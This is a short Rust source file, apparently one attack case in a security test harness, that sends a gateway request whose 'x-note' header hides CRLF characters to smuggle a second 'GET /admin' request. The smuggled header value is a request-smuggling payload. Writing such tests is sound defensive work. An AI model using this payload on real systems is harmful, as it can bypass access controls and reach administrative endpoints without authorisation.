//! Hides a second request in a header.

use crate::wasi::Ask;
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let answer = Ask::gateway("/api/v1/key/status")
        .header("x-note", "a\r\n\r\nGET /admin HTTP/1.1")
        .send()?;
    Ok(got(format!("status {}", answer.status())))
}
